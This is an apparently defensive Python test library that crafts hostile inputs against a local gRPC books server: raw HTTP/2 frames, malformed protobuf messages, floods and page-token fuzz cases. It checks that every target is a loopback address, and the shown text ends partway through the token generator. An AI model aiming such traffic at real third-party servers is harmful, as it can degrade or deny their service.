"""Hostile-input attacks on books-server: a library used by tests/wire/test_hostile.py (asserts what
a fixed server must do) and tests/hostile/measure.py (measures what a given binary does).

Every attack is a function `attack_<name>(host, port, stop=None, **bounds) -> dict` that describes
what the attacker saw. Common keys of the dict:

    attack       the attack's name
    statuses     {gRPC status name (or "RST_STREAM:<code>", "TIMEOUT", "CLOSED", ...): count}
    goaway       [{"code": name, "last_stream_id": n, "debug": text, "t": seconds}, ...]
    rst          {RST_STREAM error code name received: count}
    closed       True when the server closed (or reset) a connection of the attack
    bytes_sent   bytes the attacker wrote
    elapsed_s    wall time of the attack
    notes        short human-readable facts (what was cut short, which limit was hit, ...)
    details      attack-specific data (per-case outcomes) for tests to assert on

Bounds: every loop is bounded in count AND in wall time (`max_seconds`); `stop` (a
threading.Event) ends an attack early (measure.py sets it when the server's RSS passes its
limit). Attacks only ever talk to loopback addresses (checked).

Clients used: grpcio where a normal client can express the attack (page tokens, random bytes,
violation floods, metadata); otherwise raw sockets with hand-built HTTP/2 frames (RFC 9113 §4.1:
length(24) type(8) flags(8) R|stream id(31), then the payload) and hand-built HPACK literals
(RFC 7541 §6.2.2), or the `h2` library (python3-h2) for request-shaped exchanges that need flow
control (compression bomb, oversized metadata, odd paths). gRPC messages are length-prefixed:
compressed-flag(1) length(4, big-endian) bytes (gRPC PROTOCOL-HTTP2.md).

Run with Debian's /usr/bin/python3 (python3-grpcio, python3-h2, python3-hpack)."""

import base64
import collections
import functools
import ipaddress
import random
import resource
import selectors
import socket
import string
import struct
import threading
import time
import zlib

import grpc
import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack

import harness
from harness import books_pb2, health_pb2, health_pb2_grpc

# ---------------------------------------------------------------------------------------------
# Constants.

MiB = 1 << 20
GIB = 1 << 30

SERVICE = "books.v1.BooksService"
GET_BOOK = "/books.v1.BooksService/GetBook"
LIST_BOOKS = "/books.v1.BooksService/ListBooks"
CREATE_BOOK = "/books.v1.BooksService/CreateBook"
HEALTH_CHECK = "/grpc.health.v1.Health/Check"
REFLECTION_V1 = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
REFLECTION_V1ALPHA = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types and flags (RFC 9113 §6).
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
FLAG_END_STREAM = 0x1
FLAG_ACK = 0x1
FLAG_END_HEADERS = 0x4
FLAG_PADDED = 0x8
FLAG_PRIORITY = 0x20

# SETTINGS identifiers (RFC 9113 §6.5.2).
S_HEADER_TABLE_SIZE, S_ENABLE_PUSH, S_MAX_CONCURRENT_STREAMS, S_INITIAL_WINDOW_SIZE, \
    S_MAX_FRAME_SIZE, S_MAX_HEADER_LIST_SIZE = range(1, 7)

H2_ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
             4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR",
             7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR",
             11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}
CANCEL = 8

GRPC_CODES = {s.value[0]: s.name for s in grpc.StatusCode}

# Never INTERNAL/UNKNOWN for a client's bytes; UNAVAILABLE would mean the server went away.
BAD_FOR_GARBAGE = ("INTERNAL", "UNKNOWN", "UNAVAILABLE")


def h2_error_name(code):
    return H2_ERRORS.get(code, "0x%x" % code)


def grpc_code_name(value):
    """'3' or b'3' -> 'INVALID_ARGUMENT'."""
    try:
        n = int(value)
    except (TypeError, ValueError):
        return "BAD_GRPC_STATUS(%r)" % (value,)
    return GRPC_CODES.get(n, "CODE_%d" % n)


def check_loopback(host):
    """Attacks only ever go to this machine."""
    for info in socket.getaddrinfo(host, None):
        addr = ipaddress.ip_address(info[4][0])
        if not addr.is_loopback:
            raise ValueError("refusing to attack %s (%s): not a loopback address" % (host, addr))


class Budget:
    """A count bound and a wall-time bound, plus an optional stop event."""

    def __init__(self, max_seconds, stop=None):
        self.t0 = time.monotonic()
        self.deadline = self.t0 + max_seconds
        self.stop = stop
        self.cut = None          # why the attack ended early, if it did

    def over(self):
        if self.cut:
            return True
        if self.stop is not None and self.stop.is_set():
            self.cut = "stopped (stop event: server RSS limit or caller)"
            return True
        if time.monotonic() > self.deadline:
            self.cut = "wall-time bound reached"
            return True
        return False

    def left(self):
        return max(0.0, self.deadline - time.monotonic())

    def elapsed(self):
        return time.monotonic() - self.t0


def new_result(name):
    return {"attack": name, "statuses": collections.Counter(), "goaway": [],
            "rst": collections.Counter(), "closed": False, "bytes_sent": 0, "elapsed_s": 0.0,
            "notes": [], "details": {}}


def finish(result, budget):
    result["elapsed_s"] = round(budget.elapsed(), 3)
    if budget.cut:
        result["notes"].append(budget.cut)
    result["statuses"] = dict(result["statuses"])
    result["rst"] = dict(result["rst"])
    return result


def absorb(result, conn):
    """Adds a RawConn's or H2Client's observations to a result."""
    result["bytes_sent"] += conn.bytes_sent
    result["goaway"].extend(conn.goaways)
    result["rst"].update(conn.rst)
    if conn.closed:
        result["closed"] = True


# ---------------------------------------------------------------------------------------------
# gRPC message and protobuf helpers (built by hand where a normal encoder would refuse).

def grpc_frame(message, compressed=False):
    return struct.pack(">BI", 1 if compressed else 0, len(message)) + message


def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb_bytes(field, value):
    """A length-delimited field (wire type 2)."""
    return varint(field << 3 | 2) + varint(len(value)) + value


def book_bytes(display_name=b"A Title", authors=(b"An Author",), publisher=b"A Publisher",
               name=None):
    out = bytearray()
    if name is not None:
        out += pb_bytes(1, name)
    if display_name is not None:
        out += pb_bytes(2, display_name)
    for a in authors:
        out += pb_bytes(3, a)
    if publisher is not None:
        out += pb_bytes(4, publisher)
    return bytes(out)


def create_request_bytes(book, book_id=b""):
    """CreateBookRequest{book = 1 (Book bytes), book_id = 2}."""
    out = pb_bytes(1, book)
    if book_id:
        out += pb_bytes(2, book_id)
    return out


def empty_authors_request(n):
    """A CreateBookRequest whose book has n empty `authors` (field 3 of Book, `repeated string`):
    2 bytes per author (key 0x1a, length 0)."""
    book = pb_bytes(2, b"Flood") + b"\x1a\x00" * n + pb_bytes(4, b"Flood Press")
    return create_request_bytes(book)


BAD_AUTHORS = (b"", b"\xc3\x28", b"a\x00b", b"x" * 513, b"\xed\xa0\x80", b"\xff\xfe",
               b"\xf4\x90\x80\x80")


def bad_fields_request(n_authors):
    """A CreateBookRequest in which everything is wrong: a malformed book_id, an empty title, an
    over-long publisher and n_authors bad authors (empty, invalid UTF-8, NUL, 513 bytes,
    surrogates, beyond U+10FFFF)."""
    authors = [BAD_AUTHORS[i % len(BAD_AUTHORS)] for i in range(n_authors)]
    book = book_bytes(display_name=b"", authors=authors, publisher=b"p" * 600)
    return create_request_bytes(book, book_id=b"Not A Valid ID!")


def wire_invalid(text):
    """True for bytes no proto3 string may hold here: invalid UTF-8 (surrogates and code points
    past U+10FFFF included) or a NUL."""
    try:
        text.decode("utf-8", "strict")
    except UnicodeDecodeError:
        return True
    return b"\0" in text


def bad_fields_min_problems(n_authors):
    """A lower bound on the problems any validator must find in bad_fields_request(n_authors):
    the wire-invalid authors among the first min(n, 100) (100 is the API's cap on authors, so a
    validator may stop counting entries there)."""
    return sum(1 for i in range(min(n_authors, 100))
               if wire_invalid(BAD_AUTHORS[i % len(BAD_AUTHORS)]))


def valid_create_bytes(book_id, title="A Title"):
    return books_pb2.CreateBookRequest(
        book_id=book_id, book=harness.make_book(title)).SerializeToString()


def get_book_bytes(name="books/hostile"):
    return books_pb2.GetBookRequest(name=name).SerializeToString()


# ---------------------------------------------------------------------------------------------
# HPACK by hand (RFC 7541): literal header fields without indexing, new name (§6.2.2), no Huffman.
# They never touch the dynamic table, so one encoded block can be sent on any number of streams.

def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(data):
    return hpack_int(len(data), 7) + data


def hpack_literal(name, value):
    if isinstance(name, str):
        name = name.encode()
    if isinstance(value, str):
        value = value.encode()
    return b"\x00" + hpack_string(name) + hpack_string(value)


def request_headers(path, authority, extra=(), content_type=b"application/grpc"):
    """A gRPC request's headers as a list of (bytes, bytes)."""
    if isinstance(path, str):
        path = path.encode("utf-8", "surrogateescape")
    hs = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path),
          (b":authority", authority.encode()), (b"content-type", content_type),
          (b"te", b"trailers"), (b"user-agent", b"books-hostile/1")]
    return hs + [(k if isinstance(k, bytes) else k.encode(),
                  v if isinstance(v, bytes) else v.encode()) for k, v in extra]


def header_block(headers):
    return b"".join(hpack_literal(k, v) for k, v in headers)


def frame(ftype, flags, stream_id, payload=b""):
    """RFC 9113 §4.1: Length(24) Type(8) Flags(8) R(1)+Stream Identifier(31), then the payload."""
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, stream_id & 0x7FFFFFFF) + \
        payload


def settings_frame(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def window_update(stream_id, increment):
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment & 0x7FFFFFFF))


def rst_stream(stream_id, code=CANCEL):
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


def ping(opaque=b"\0" * 8, ack=False):
    return frame(PING, FLAG_ACK if ack else 0, 0, opaque)


# ---------------------------------------------------------------------------------------------
# A raw HTTP/2 connection with hand-built frames: it sends what it is told (no state machine in
# the way), and parses what the server sends: SETTINGS (acknowledged), PING (answered, like a
# normal client), GOAWAY, RST_STREAM, HEADERS/CONTINUATION (HPACK-decoded), DATA (credited back).

class RawConn:
    def __init__(self, host, port, timeout=5.0, window=1 << 30, ack_settings=True):
        check_loopback(host)
        self.ack_settings = ack_settings
        self.host, self.port = host, port
        self.authority = "%s:%d" % (host, port)
        self.t0 = time.monotonic()
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.window = window
        self.bytes_sent = 0
        self.bytes_recv = 0
        self.closed = False          # EOF or reset from the server
        self.close_reason = None
        self.send_error = None       # why the last send failed
        self.goaways = []
        self.rst = collections.Counter()
        self.ping_acks = 0
        self.server_pings = 0
        self.server_settings = {}
        self.settings_acks = 0
        self.frames_recv = collections.Counter()
        self.streams = collections.defaultdict(dict)
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 30
        self.decoder.max_allowed_table_size = 1 << 20
        self.hpack_error = None
        self._buf = bytearray()
        self._block = None           # (stream id, flags, bytearray) while CONTINUATION is due

    # -- sending ------------------------------------------------------------------------------
    def send(self, data):
        """Writes all of data; False (and send_error set) when the server closed, reset or stopped
        reading (socket timeout)."""
        if self.closed:
            return False
        try:
            self.sock.sendall(data)
        except socket.timeout:
            self.send_error = "send timed out: the server stopped reading"
            return False
        except (BrokenPipeError, ConnectionResetError, ConnectionAbortedError, OSError) as e:
            self.send_error = "%s" % e.__class__.__name__
            self._mark_closed("send failed: %s" % e.__class__.__name__)
            return False
        self.bytes_sent += len(data)
        return True

    def start(self, settings=None):
        """Preface, our SETTINGS (big windows so the server never waits on us) and a connection
        WINDOW_UPDATE."""
        if settings is None:
            settings = [(S_ENABLE_PUSH, 0), (S_INITIAL_WINDOW_SIZE, self.window),
                        (S_MAX_HEADER_LIST_SIZE, 1 << 24)]
        data = PREFACE + settings_frame(settings)
        if self.window > 65535:
            data += window_update(0, self.window - 65535)
        return self.send(data)

    def request_frames(self, stream_id, path, body=None, end_stream=True, extra=(),
                       block=None):
        """HEADERS (one frame, END_HEADERS) and, when body is not None, one DATA frame (grpc-framed
        body; the caller keeps it under the peer's frame size and windows)."""
        if block is None:
            block = header_block(request_headers(path, self.authority, extra))
        out = []
        if body is None:
            out.append(frame(HEADERS, FLAG_END_HEADERS | (FLAG_END_STREAM if end_stream else 0),
                             stream_id, block))
        else:
            out.append(frame(HEADERS, FLAG_END_HEADERS, stream_id, block))
            out.append(frame(DATA, FLAG_END_STREAM if end_stream else 0, stream_id,
                             grpc_frame(body)))
        return b"".join(out)

    # -- receiving ----------------------------------------------------------------------------
    def _mark_closed(self, why):
        if not self.closed:
            self.closed = True
            self.close_reason = why
            self.closed_at = time.monotonic() - self.t0

    def pump(self, wait=0.0, max_bytes=1 << 24):
        """Reads what is available (waiting up to `wait` seconds for the first bytes) and handles
        it. Returns the number of bytes read."""
        if self.closed:
            return 0
        got = 0
        self.sock.settimeout(wait if wait > 0 else 0.0)
        try:
            while got < max_bytes:
                try:
                    chunk = self.sock.recv(1 << 20)
                except (BlockingIOError, socket.timeout):
                    break
                except (ConnectionResetError, OSError) as e:
                    self._mark_closed("reset: %s" % e.__class__.__name__)
                    break
                if not chunk:
                    self._mark_closed("EOF")
                    break
                got += len(chunk)
                self._buf += chunk
                self.sock.settimeout(0.0)
        finally:
            if not self.closed:
                self.sock.settimeout(5.0)
        self.bytes_recv += got
        self._parse()
        return got

    def pump_until(self, pred, timeout):
        deadline = time.monotonic() + timeout
        while not pred() and not self.closed:
            left = deadline - time.monotonic()
            if left <= 0:
                return False
            self.pump(min(left, 0.05))
        return pred()

    def _parse(self):
        buf = self._buf
        off = 0
        replies = []
        while len(buf) - off >= 9:
            n = (buf[off] << 16) | (buf[off + 1] << 8) | buf[off + 2]
            if len(buf) - off < 9 + n:
                break
            ftype, flags = buf[off + 3], buf[off + 4]
            sid = struct.unpack_from(">I", buf, off + 5)[0] & 0x7FFFFFFF
            payload = bytes(buf[off + 9:off + 9 + n])
            off += 9 + n
            self.frames_recv[ftype] += 1
            reply = self._handle(ftype, flags, sid, payload)
            if reply:
                replies.append(reply)
        del buf[:off]
        if replies:
            # Best effort: a closed or stalled connection just keeps its replies.
            self.send(b"".join(replies))

    def _handle(self, ftype, flags, sid, payload):
        now = time.monotonic() - self.t0
        if ftype == SETTINGS:
            if flags & FLAG_ACK:
                self.settings_acks += 1
                return None
            for i in range(0, len(payload) - 5, 6):
                k, v = struct.unpack_from(">HI", payload, i)
                self.server_settings[k] = v
            return frame(SETTINGS, FLAG_ACK, 0) if self.ack_settings else None
        if ftype == PING:
            if flags & FLAG_ACK:
                self.ping_acks += 1
                return None
            self.server_pings += 1
            return ping(payload[:8].ljust(8, b"\0"), ack=True)
        if ftype == GOAWAY:
            last, code = struct.unpack_from(">II", payload, 0) if len(payload) >= 8 else (0, 0)
            self.goaways.append({"code": h2_error_name(code), "last_stream_id": last & 0x7FFFFFFF,
                                 "debug": payload[8:208].decode("utf-8", "replace"),
                                 "t": round(now, 3), "bytes_sent": self.bytes_sent})
            return None
        if ftype == RST_STREAM:
            code = struct.unpack_from(">I", payload, 0)[0] if len(payload) >= 4 else -1
            name = h2_error_name(code)
            self.rst[name] += 1
            st = self.streams[sid]
            st["rst"] = name
            st.setdefault("t_end", now)
            return None
        if ftype == DATA:
            st = self.streams[sid]
            st["data"] = st.get("data", 0) + len(payload)
            if flags & FLAG_END_STREAM:
                st["ended"] = True
                st.setdefault("t_end", now)
            if payload:
                out = window_update(0, len(payload))
                if not flags & FLAG_END_STREAM:
                    out += window_update(sid, len(payload))
                return out
            return None
        if ftype == HEADERS:
            data = payload
            if flags & FLAG_PADDED and data:
                pad = data[0]
                data = data[1:len(data) - pad]
            if flags & FLAG_PRIORITY:
                data = data[5:]
            self._block = (sid, flags, bytearray(data))
            if flags & FLAG_END_HEADERS:
                self._decode_block()
            return None
        if ftype == CONTINUATION:
            if self._block is not None:
                self._block[2].extend(payload)
                if flags & FLAG_END_HEADERS:
                    self._decode_block()
            return None
        if ftype == WINDOW_UPDATE:
            return None
        return None

    def _decode_block(self):
        sid, flags, block = self._block
        self._block = None
        try:
            headers = self.decoder.decode(bytes(block), raw=True)
        except Exception as e:  # hpack errors: keep going, the status is then unknown
            self.hpack_error = repr(e)
            headers = []
        st = self.streams[sid]
        if "headers" not in st:
            st["headers"] = headers
        else:
            st["trailers"] = headers
        # The first status counts (gRPC core 1.51 may send a second trailers-only response on a
        # stream it already ended; all_statuses keeps every one).
        for k, v in headers:
            if k == b"grpc-status":
                st.setdefault("grpc_status", grpc_code_name(v))
                st.setdefault("all_statuses", []).append(grpc_code_name(v))
            elif k == b"grpc-message":
                st.setdefault("grpc_message", v.decode("utf-8", "replace"))
            elif k == b":status":
                st.setdefault("http_status", v.decode("ascii", "replace"))
        if flags & FLAG_END_STREAM:
            st["ended"] = True
            st.setdefault("t_end", time.monotonic() - self.t0)

    def outcome(self, sid):
        """What stream sid ended with: a gRPC status name, "RST_STREAM:<code>", "HTTP <status>",
        or None while it is still open."""
        st = self.streams.get(sid, {})
        if "grpc_status" in st:
            return st["grpc_status"]
        if "rst" in st:
            return "RST_STREAM:" + st["rst"]
        if st.get("ended"):
            return "HTTP %s (no grpc-status)" % st.get("http_status", "?")
        return None

    def goaway_stream_dead(self, sid):
        """True when a GOAWAY says stream sid will never be processed."""
        return any(sid > g["last_stream_id"] for g in self.goaways)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


# ---------------------------------------------------------------------------------------------
# A request through the h2 library (flow control done by h2), for request-shaped attacks.

class H2Client:
    def __init__(self, host, port, timeout=5.0, wait_settings=True):
        check_loopback(host)
        self.authority = "%s:%d" % (host, port)
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        cfg = h2.config.H2Configuration(client_side=True, header_encoding=None,
                                        validate_outbound_headers=False,
                                        normalize_outbound_headers=False,
                                        validate_inbound_headers=False,
                                        normalize_inbound_headers=False)
        self.conn = h2.connection.H2Connection(config=cfg)
        self.conn.local_settings = h2.settings.Settings(
            client=True, initial_values={S_MAX_HEADER_LIST_SIZE: 1 << 26,
                                         S_INITIAL_WINDOW_SIZE: 1 << 24})
        # hpack's Huffman coder is quadratic in a value's length (15 s for 256 KiB): send
        # literals without Huffman coding, as RFC 7541 allows.
        encode = self.conn.encoder.encode
        self.conn.encoder.encode = lambda headers, huffman=True: encode(headers, huffman=False)
        self.conn.initiate_connection()
        self.conn.decoder.max_header_list_size = 1 << 26
        self.conn.increment_flow_control_window((1 << 30) - 65535)
        self.bytes_sent = 0
        self.closed = False
        self.close_reason = None
        self.goaways = []
        self.rst = collections.Counter()
        self.streams = collections.defaultdict(dict)
        self.t0 = time.monotonic()
        self.settings_seen = False
        self._inbuf = bytearray()
        self.flush()
        if wait_settings:
            # Like a normal client: requests go after the server's SETTINGS (which h2
            # acknowledges), so the server's advertised limits are in force.
            deadline = time.monotonic() + 2.0
            while not self.settings_seen and not self.closed and time.monotonic() < deadline:
                self.pump(0.05)

    def flush(self):
        data = self.conn.data_to_send()
        if data and not self.closed:
            try:
                self.sock.sendall(data)
                self.bytes_sent += len(data)
            except socket.timeout:
                self.close_reason = "send timed out: the server stopped reading"
                raise
            except OSError as e:
                self.closed = True
                self.close_reason = "send failed: %s" % e.__class__.__name__
                raise ConnectionError(self.close_reason)

    def pump(self, wait):
        if self.closed:
            return
        self.sock.settimeout(max(wait, 0.001))
        try:
            data = self.sock.recv(1 << 20)
        except socket.timeout:
            return
        except OSError as e:
            self.closed = True
            self.close_reason = "reset: %s" % e.__class__.__name__
            return
        finally:
            if not self.closed:
                self.sock.settimeout(5.0)
        if not data:
            self.closed = True
            self.close_reason = "EOF"
            return
        # Fed to h2 one whole frame at a time, so that the events of the frames before one it
        # rejects (e.g. a second HEADERS on a stream the server already ended) are not lost.
        self._inbuf += data
        events = []
        while len(self._inbuf) >= 9:
            n = 9 + int.from_bytes(self._inbuf[:3], "big")
            if len(self._inbuf) < n:
                break
            one = bytes(self._inbuf[:n])
            del self._inbuf[:n]
            try:
                events += self.conn.receive_data(one)
            except h2.exceptions.ProtocolError as e:
                self.closed = True
                self.close_reason = "h2 protocol error: %r" % e
                break
        now = round(time.monotonic() - self.t0, 3)
        for ev in events:
            if isinstance(ev, h2.events.RemoteSettingsChanged):
                self.settings_seen = True
            if isinstance(ev, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                st = self.streams[ev.stream_id]
                st.setdefault("headers" if "headers" not in st else "trailers", ev.headers)
                for k, v in ev.headers:
                    if k == b"grpc-status":
                        st.setdefault("grpc_status", grpc_code_name(v))
                    elif k == b"grpc-message":
                        st.setdefault("grpc_message", v.decode("utf-8", "replace"))
                    elif k == b":status":
                        st.setdefault("http_status", v.decode("ascii", "replace"))
            elif isinstance(ev, h2.events.DataReceived):
                st = self.streams[ev.stream_id]
                st["data"] = st.get("data", 0) + len(ev.data)
                self.conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, h2.events.StreamEnded):
                self.streams[ev.stream_id]["ended"] = True
                self.streams[ev.stream_id].setdefault("t_end", now)
            elif isinstance(ev, h2.events.StreamReset):
                name = h2_error_name(int(ev.error_code))
                self.rst[name] += 1
                self.streams[ev.stream_id]["rst"] = name
                self.streams[ev.stream_id].setdefault("t_end", now)
            elif isinstance(ev, h2.events.ConnectionTerminated):
                self.goaways.append({"code": h2_error_name(int(ev.error_code)),
                                     "last_stream_id": ev.last_stream_id or 0,
                                     "debug": (ev.additional_data or b"")[:200].decode(
                                         "utf-8", "replace"), "t": now,
                                     "bytes_sent": self.bytes_sent})
        try:
            self.flush()
        except (ConnectionError, socket.timeout):
            pass

    def outcome(self, sid):
        st = self.streams.get(sid, {})
        if "grpc_status" in st:
            return st["grpc_status"]
        if "rst" in st:
            return "RST_STREAM:" + st["rst"]
        if st.get("ended"):
            return "HTTP %s (no grpc-status)" % st.get("http_status", "?")
        if any(sid > g["last_stream_id"] for g in self.goaways):
            return "GOAWAY:" + self.goaways[-1]["code"]
        return None

    def request(self, headers, body_chunks=(), timeout=10.0, budget=None):
        """Sends one request (headers as (bytes, bytes) pairs, then the body's chunks, flow
        controlled, END_STREAM after the last) and waits for its end. Returns a dict: outcome
        (gRPC status name, RST_STREAM:x, GOAWAY:x, CLOSED:<why>, TIMEOUT, SEND_STALLED),
        grpc-message, body bytes sent, elapsed_s."""
        t0 = time.monotonic()
        deadline = t0 + timeout
        sid = self.conn.get_next_available_stream_id()
        res = {"stream_id": sid, "body_sent": 0}
        try:
            chunks = iter(body_chunks)
            pending = next(chunks, None)
            self.conn.send_headers(sid, headers, end_stream=pending is None)
            self.flush()
            while pending is not None:
                if self.outcome(sid) or self.closed:
                    break          # the server answered (or gave up) before the body ended
                if time.monotonic() > deadline or (budget and budget.over()):
                    res["outcome"] = "TIMEOUT (while sending the body)"
                    break
                window = min(self.conn.local_flow_control_window(sid),
                             self.conn.max_outbound_frame_size)
                if window <= 0:
                    self.pump(0.05)
                    continue
                piece, pending = pending[:window], pending[window:]
                if not pending:
                    pending = next(chunks, None)
                self.conn.send_data(sid, piece, end_stream=pending is None)
                res["body_sent"] += len(piece)
                self.flush()
                self.pump(0.0)
        except socket.timeout:
            res["outcome"] = "SEND_STALLED (the server stopped reading)"
        except (ConnectionError, h2.exceptions.ProtocolError, h2.exceptions.StreamClosedError) \
                as e:
            if not self.closed:
                res["note"] = "h2: %r" % e
        while "outcome" not in res:
            oc = self.outcome(sid)
            if oc and (self.streams[sid].get("ended") or "rst" in self.streams[sid] or
                       oc.startswith("GOAWAY")):
                res["outcome"] = oc
                break
            if self.closed:
                res["outcome"] = oc or "CLOSED:%s" % self.close_reason
                break
            if time.monotonic() > deadline or (budget and budget.over()):
                res["outcome"] = oc or "TIMEOUT"
                break
            self.pump(0.05)
        st = self.streams.get(sid, {})
        res["grpc_message"] = st.get("grpc_message")
        res["http_status"] = st.get("http_status")
        res["elapsed_s"] = round(time.monotonic() - t0, 3)
        return res

    def close(self):
        try:
            if not self.closed:
                self.conn.close_connection()
                self.flush()
        except Exception:
            pass
        try:
            self.sock.close()
        except OSError:
            pass


def h2_headers(authority, path, extra=()):
    return request_headers(path, authority, extra)


# ---------------------------------------------------------------------------------------------
# grpcio helpers.

def channel(host, port, options=()):
    """A grpcio channel with its own TCP connection: grpcio shares connections between channels
    of equal arguments unless told to use a local subchannel pool, and a well-behaved client must
    not go down with an attacker's connection (nor 48 "separate" channels be one)."""
    check_loopback(host)
    opts = [("grpc.enable_http_proxy", 0), ("grpc.use_local_subchannel_pool", 1)] + list(options)
    return grpc.insecure_channel("%s:%d" % (host, port), options=opts)


def call_code(fn, *a, **kw):
    """Runs a grpcio call; returns (status name, response or RpcError)."""
    try:
        return "OK", fn(*a, **kw)
    except grpc.RpcError as e:
        return e.code().name, e


def error_summary(err, max_message=300):
    """Status, message and the BadRequest of a grpc.RpcError."""
    out = {"code": err.code().name, "message": (err.details() or "")[:max_message],
           "message_len": len(err.details() or "")}
    d = harness.ErrorDetails(err)
    out["details_bytes"] = len(d.raw) if d.raw is not None else None
    out["violations"] = len(d.violation_fields)
    out["violation_fields"] = d.violation_fields[:64]
    out["bad_requests"] = len(d.bad_requests)
    out["full_message"] = err.details() or ""
    return out


def seed_books(host, port, n=5, prefix="seed"):
    """Creates n books (ids <prefix>-0..n-1; ALREADY_EXISTS is fine) and returns them by name."""
    with channel(host, port) as ch:
        stub = harness.books_pb2_grpc.BooksServiceStub(ch)
        out = {}
        for i in range(n):
            book_id = "%s-%d" % (prefix, i)
            book = harness.make_book("Seeded title %d" % i, ["Seed Author %d" % i, "Co Author"],
                                     "Seed Press %d" % i)
            try:
                got = stub.CreateBook(books_pb2.CreateBookRequest(book=book, book_id=book_id),
                                      timeout=10)
            except grpc.RpcError as e:
                if e.code() != grpc.StatusCode.ALREADY_EXISTS:
                    raise
                got = stub.GetBook(books_pb2.GetBookRequest(name="books/" + book_id), timeout=10)
            out[got.name] = got
        return out


def check_books(host, port, books, timeout=10.0):
    """GetBook for every seeded book; returns a list of problems (empty when all are intact)."""
    problems = []
    with channel(host, port) as ch:
        stub = harness.books_pb2_grpc.BooksServiceStub(ch)
        for name, want in books.items():
            code, got = call_code(stub.GetBook, books_pb2.GetBookRequest(name=name),
                                  timeout=timeout)
            if code != "OK":
                problems.append("%s: %s %s" % (name, code, got.details()))
            elif got != want:
                problems.append("%s changed: %r != %r" % (name, got, want))
    return problems


def health_status(host, port, timeout=5.0):
    """'SERVING', 'NOT_SERVING', ... or the gRPC error code name."""
    with channel(host, port) as ch:
        code, resp = call_code(health_pb2_grpc.HealthStub(ch).Check,
                               health_pb2.HealthCheckRequest(service=""), timeout=timeout)
        if code != "OK":
            return code
        return health_pb2.HealthCheckResponse.ServingStatus.Name(resp.status)


class GoodClient:
    """A well-behaved client: GetBook in a loop on its own channel, every latency and every error
    recorded (with the time it started), each answer compared with the seeded book."""

    def __init__(self, host, port, books, timeout=10.0, pause=0.005):
        self.host, self.port = host, port
        self.books = list(books.items())
        self.timeout = timeout
        self.pause = pause
        self.samples = []        # (t_start monotonic, latency ms, code)
        self.mismatches = []
        self._stop = threading.Event()
        self._thread = None
        self.channel = None

    def start(self):
        self.channel = channel(self.host, self.port)
        grpc.channel_ready_future(self.channel).result(timeout=30)
        self.stub = harness.books_pb2_grpc.BooksServiceStub(self.channel)
        self._thread = threading.Thread(target=self._run, name="good-client", daemon=True)
        self._thread.start()
        return self

    def _run(self):
        i = 0
        while not self._stop.is_set():
            name, want = self.books[i % len(self.books)]
            i += 1
            t = time.monotonic()
            try:
                got = self.stub.GetBook(books_pb2.GetBookRequest(name=name), timeout=self.timeout)
                code = "OK"
                if got != want:
                    self.mismatches.append(name)
            except grpc.RpcError as e:
                code = e.code().name
            except Exception as e:  # a closed channel at stop
                code = "CLIENT_ERROR:%s" % e.__class__.__name__
            self.samples.append((t, (time.monotonic() - t) * 1000.0, code))
            if code != "OK":
                self._stop.wait(0.05)
            elif self.pause:
                self._stop.wait(self.pause)

    def stop(self):
        self._stop.set()
        if self._thread:
            self._thread.join(self.timeout + 5)
        if self.channel:
            self.channel.close()

    def window(self, t0, t1=None):
        """(latencies ms of the calls that started in [t0, t1], Counter of their non-OK codes)."""
        t1 = t1 if t1 is not None else float("inf")
        lat, errs = [], collections.Counter()
        for t, ms, code in list(self.samples):
            if t0 <= t <= t1:
                lat.append(ms)
                if code != "OK":
                    errs[code] += 1
        return lat, errs


def percentile(values, p):
    if not values:
        return None
    s = sorted(values)
    k = min(len(s) - 1, max(0, int(round(p / 100.0 * (len(s) - 1)))))
    return s[k]


# ---------------------------------------------------------------------------------------------
# Attack: page tokens.

B64URL = string.ascii_letters + string.digits + "-_"


def page_token_cases(genuine, max_len=420, seed=1):
    """(label, category, token bytes) for every case. Tokens are bytes so that invalid UTF-8 can be
    sent too (the request is then built by hand)."""
    rng = random.Random(seed)
    cases = []
    for n in range(0, max_len + 1):
        tok = "".join(rng.choice(B64URL) for _ in range(n))
        cases.append(("random len %d" % n, "empty" if n == 0 else "random", tok.encode()))
    base = genuine or "".join(rng.choice(B64URL) for _ in range(44))
    g = base.encode()
    mal = []
    for ch in ("+", "/", "=", ".", "~", "%", "!", "*", "$", "\x7f", "\x01", "\x00", "é", "\u2028",
               "\U0001F4DA", "A=", "=="):
        mal.append(("non-alphabet %r in the middle" % ch,
